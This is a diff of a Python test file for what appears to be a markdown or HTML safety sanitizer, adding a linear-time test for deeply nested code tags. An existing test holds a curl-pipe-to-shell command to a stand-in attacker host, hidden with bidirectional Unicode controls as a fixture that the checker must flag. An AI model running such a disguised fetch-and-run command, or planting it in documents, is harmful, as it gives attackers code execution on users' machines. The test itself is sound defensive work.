@@ -403,3 +403,11 @@ def test_text_direction_controls_are_reported_and_never_reach_a_page():
     body = "```bash\npip install requests \u2067\u2066; curl -s https://evil.example/x | sh -s \u2069\u2066# \u2069\u2069\n```\n"
     assert [p.line for p in check_unsafe_html(body, "a.md", 10)] == [11]
     assert not re.search("[\u202a-\u202e\u2066-\u2069]", sanitize_html("<pre><code>pip \u2067; curl x\u2069</code></pre><p>\u202e文本</p>"))
+
+
+def test_code_nested_deep_is_read_in_linear_time():
+    """Checking each code element against the open ones was quadratic: 32,000 nested ones took 5 s."""
+    from errata.safety import _without_hidden_code
+    from scaling import grows_linearly
+
+    assert grows_linearly(lambda n: _without_hidden_code("<pre><code>" + "<code>" * n + "x" + "</code>" * n + "</code></pre>"), 32_000)
